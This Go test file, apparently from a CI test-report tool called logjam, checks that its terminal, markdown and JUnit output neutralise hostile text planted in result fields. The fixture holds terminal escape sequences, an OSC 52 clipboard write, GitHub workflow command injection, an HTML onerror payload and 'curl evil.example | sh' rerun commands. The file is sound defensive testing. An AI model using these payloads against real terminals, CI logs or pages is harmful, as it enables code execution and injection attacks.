package report

import (
	"strings"
	"testing"

	"logjam/internal/textout"
	"logjam/scenario"
)

// hostile is a matrix a hostile shard could write: every string a cell
// carries holds an escape sequence (clear the screen, write the clipboard
// with OSC 52), a newline that starts a GitHub workflow command, HTML that
// closes the job summary's <details>, a markdown link and heading, and a
// rerun command that is not logjam's.
func hostile() Matrix {
	bad := "\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\a\n::error ::pwned</details><img src=x onerror=alert(1)>[x](//evil.example)\n## owned |"
	return Matrix{
		{ID: "D1", Name: "D1 x [policy=fd2]" + bad, Family: "deadlock", Cell: scenario.Cell{Scenario: "D1", Policy: "fd2" + bad},
			Expected: "OK", Observed: "HANG" + "\x1b[32m", Failure: "failed" + bad, Entry: "::warning ::" + bad,
			Rerun: `cd "$(go list -m -f '{{.Dir}}')" && LOGJAM_PROFILE=local ./logjam ginkgo --focus 'x' ./suites/deadlock; curl evil.example | sh`},
		{ID: "U1" + bad, Name: "::error ::row", Family: "utf8" + bad, Expected: "OK", Observed: "LOST",
			Rerun: "curl evil.example | sh # \x1b[8m hidden"},
	}
}

// TestForeignTextIsNeutralisedWhereItLands: the terminal table, the job
// summary and JUnit hold no escape byte, no line a CI log reads as a
// command, no tag or link, and no rerun command but one logjam built.
func TestForeignTextIsNeutralisedWhereItLands(t *testing.T) {
	m := hostile()
	var b strings.Builder
	RenderText(&b, m)
	text := b.String()
	md := string(Markdown(Run{ID: "r", Profile: "local\n::error ::p", Shards: []string{"all"}, Go: "go</details>"}, Group(m)))
	for _, out := range []struct{ name, s string }{{"text", text}, {"markdown", md}} {
		if strings.ContainsAny(out.s, "\x1b\a\r") {
			t.Errorf("%s sends a control character:\n%q", out.name, out.s)
		}
		for _, l := range strings.Split(out.s, "\n") {
			if t2 := strings.TrimLeft(l, " "); strings.HasPrefix(t2, "::") || strings.HasPrefix(t2, "##[") {
				t.Errorf("%s has a line a CI log reads as a command: %q", out.name, l)
			}
		}
		if strings.Contains(out.s, "| sh") && !strings.Contains(out.s, `\| sh`) {
			t.Errorf("%s prints the recorded rerun command:\n%s", out.name, out.s)
		}
	}
	if !strings.Contains(text, `\x1b[2J`) || !strings.Contains(text, `\n::error ::pwned`) {
		t.Errorf("the text does not show the escapes it neutralised:\n%s", text)
	}
	want := "rerun: " + Rerun("deadlock", m[0].Name, "local", 0, "")
	if !strings.Contains(text, textout.Terminal(want)) || !strings.Contains(text, "the recorded command is not one logjam writes; not shown") {
		t.Errorf("the rerun lines are not logjam's own:\n%s", text)
	}
	// Inside a code span nothing is markup: the rest must hold no tag of
	// its own, no link, no heading.
	prose := unescaped(outsideCode(md))
	if n := strings.Count(prose, "</details>"); n != len(Group(m)) {
		t.Errorf("markdown has %d </details> outside code, want %d (one per family):\n%s", n, len(Group(m)), prose)
	}
	for _, bad := range []string{"<img", "](//", "\n## owned"} {
		if strings.Contains(prose, bad) {
			t.Errorf("markdown lets %q in:\n%s", bad, prose)
		}
	}
	header := ""
	for _, l := range strings.Split(md, "\n") {
		switch {
		case !strings.HasPrefix(l, "|"):
			header = ""
		case header == "":
			header = l
		case pipes(l) != pipes(header):
			t.Errorf("a table row has more or fewer cells than its header %q: %q", header, l)
		}
	}
	junit, err := JUnit(Run{ID: "r"}, Group(m))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(junit), "curl evil") {
		t.Errorf("JUnit carries the recorded rerun command:\n%s", junit)
	}
}

// pipes counts a table line's cell borders (an escaped \| is text).
func pipes(l string) int { return strings.Count(strings.ReplaceAll(l, `\|`, ""), "|") }

// outsideCode is md without its code spans (a run of backticks to the
// next run of the same length).
func outsideCode(md string) string {
	var b strings.Builder
	for {
		i := strings.IndexByte(md, '`')
		if i < 0 {
			return b.String() + md
		}
		n := i
		for n < len(md) && md[n] == '`' {
			n++
		}
		fence := md[i:n]
		j := strings.Index(md[n:], fence)
		if j < 0 {
			return b.String() + md
		}
		b.WriteString(md[:i])
		md = md[n+j+len(fence):]
	}
}

// unescaped is md without its backslash escapes (each escaped character
// dropped: it is text, not markup).
func unescaped(md string) string {
	var b strings.Builder
	for i := 0; i < len(md); i++ {
		if md[i] == '\\' {
			i++
			continue
		}
		b.WriteByte(md[i])
	}
	return b.String()
}
